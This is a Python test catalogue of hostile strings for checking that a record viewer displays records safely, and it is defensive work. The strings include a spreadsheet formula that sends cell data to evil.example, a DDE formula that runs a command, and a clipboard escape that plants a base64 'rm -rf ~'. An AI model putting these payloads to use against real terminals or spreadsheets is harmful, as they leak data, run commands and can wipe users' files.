"""The hostile strings every view must show safely: one catalogue, used by the fixtures and the tests.

`CASES` maps a short name to a string a record may hold.  `tests/hostile/fixtures/make.py`
writes them into the crafted record files, and `test_fixtures.py` checks the files still
carry every one, so the catalogue and the fixtures cannot drift apart.
"""

from __future__ import annotations

ESC = "\x1b"

CASES: dict[str, str] = {
    # terminal control sequences
    "csi-colour": f"{ESC}[31mRED{ESC}[0m text",
    "csi-clear": f"before{ESC}[2J{ESC}[Hafter",
    "csi-cursor": f"{ESC}[10;10Hmoved {ESC}[?1049l left alt screen",
    "osc-title": f"{ESC}]0;pwned title{ESC}\\ title set",
    "osc-title-bel": f"{ESC}]2;pwned{chr(7)} title via BEL",
    "osc8-link": f"{ESC}]8;;http://evil.example/{ESC}\\click me{ESC}]8;;{ESC}\\",
    "osc52-clipboard": f"{ESC}]52;c;cm0gLXJmIH4={chr(7)}clipboard",
    "dcs": f"{ESC}P+q544e{ESC}\\ dcs",
    "c1-csi": "\x9b31mC1 red\x9b0m",
    "c1-osc": "\x9d0;c1 title\x9c",
    "c1-nel": "next\x85line",
    "c1-all": "".join(chr(c) for c in range(0x80, 0xA0)),
    "bel": "ding\x07ding",
    "backspace": "safe\x08\x08\x08\x08EVIL",
    "cr": "innocent text\rEVIL",
    "del": "del\x7fete",
    "nul": "nul\x00byte",
    "c0-all": "".join(chr(c) for c in range(0x00, 0x20) if c not in (0x09, 0x0A)),
    "vt-ff": "vertical\x0btab and form\x0cfeed",
    # bidi: overrides and isolates are neutralised; marks are text
    "bidi-rlo": "invoice\u202egpj.exe",
    "bidi-lro": "\u202dforced\u202c",
    "bidi-embed": "\u202aLRE\u202c \u202bRLE\u202c",
    "bidi-isolate": "\u2066LRI\u2069 \u2067RLI\u2069 \u2068FSI\u2069",
    "bidi-unterminated": "\u202e\u2067never closed",
    # real text: must pass unchanged
    "zwj-emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467 family",
    "zwnj-persian": "می\u200cخواهم",
    "combining": "e\u0301 a\u0308 n\u0303",
    "zalgo": "Z" + "".join(chr(c) for c in range(0x300, 0x330)) + "algo",
    "arabic": "ولاية خراسان",
    "persian": "دولت اسلامی خراسان",
    "mixed-rtl": "Attack by ولاية خراسان near Kabul",
    "cjk": "伊斯兰国呼罗珊省",
    "emoji": "\U0001f525\U0001f4a3 \U0001f1f9\U0001f1ef",
    "wide-and-narrow": "ＡＢＣ abc ｱｲｳ",
    # Rich / Textual markup, including the forms that crash a markup parser
    "markup-bold": "[bold]bold?[/bold]",
    "markup-link": "[link=http://evil.example]link[/link]",
    "markup-click": "[@click=app.quit]click to quit[/]",
    "markup-click-bare": "[@click=app.quit]",
    "markup-open-close": "[/",
    "markup-index": "[0]",
    "markup-close": "[/bold]",
    "markup-style": "[red on white]styled[/]",
    "markup-escaped": "\\[bold] backslash",
    "markup-var": "$variable ${x} [$accent]",
    "rich-emoji-code": ":smile: :pile_of_poo:",
    # spreadsheet formulas and cell-leading controls
    "formula-hyperlink": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "formula-plus": "+1",
    "formula-minus": "-2",
    "formula-at": "@SUM(A1:A9)",
    "formula-dde": "=cmd|' /C calc'!A0",
    "cell-tab": "\t=1+1",
    "cell-cr": "\r=1+1",
    "cell-quote-comma": 'a "quoted", comma',
    # Markdown / HTML
    "pipe": "a | b | c",
    "html": "<script>alert(1)</script><b>bold</b>",
    "markdown": "**bold** `code` # heading [x](http://evil.example)",
    "markdown-newlines": "line one\n\n- list item\n| --- |",
    "backtick-fence": "```\nfenced\n```",
    # odd whitespace
    "line-separator": "line\u2028sep\u2029para",
    "nbsp-zwsp": "no\u00a0break zero\u200bwidth",
    "bom": "\ufeffbom",
}

LONG = ("long text " * 2000)[:20_000]  # the Text field maximum
CASES["very-long"] = LONG
CASES["long-no-spaces"] = "W" * 5000
CASES["long-escapes"] = ESC * 2000

# A URL that must be shown as text, never turned into an OSC 8 link.
EVIL_URL = "http://evil.example/\x1b]8;;http://worse.example/\x1b\\"

#: what must never appear in anything a terminal is shown
FORBIDDEN_OUTPUT = ("\x1b", "\x9b", "\x9d", "\x90", "\x07", "\x08", "\x7f", "\x00")
BIDI = tuple(chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A)))

#: strings that must survive the display boundary exactly
PRESERVED = (
    "zwj-emoji",
    "zwnj-persian",
    "combining",
    "zalgo",
    "arabic",
    "persian",
    "mixed-rtl",
    "cjk",
    "emoji",
    "wide-and-narrow",
    "markup-bold",
    "markup-link",
    "markup-click",
    "markup-open-close",
    "markup-index",
    "markup-close",
    "html",
    "pipe",
)
